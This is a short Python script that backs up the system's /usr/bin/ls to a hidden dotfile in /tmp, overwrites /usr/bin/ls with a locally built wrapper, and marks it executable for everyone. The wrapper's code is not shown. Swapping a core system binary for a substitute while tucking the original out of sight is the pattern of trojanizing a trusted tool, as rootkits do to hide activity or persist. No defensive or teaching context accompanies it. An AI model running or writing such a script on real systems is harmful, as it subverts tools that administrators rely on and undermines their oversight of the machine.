import shutil
import stat
import os

SRC = "./build/ls_wrapper"
DST = "/usr/bin/ls"

shutil.copy2(DST, "/tmp/.ls.orig")
shutil.copyfile(SRC, DST)
os.chmod(DST, os.stat(DST).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
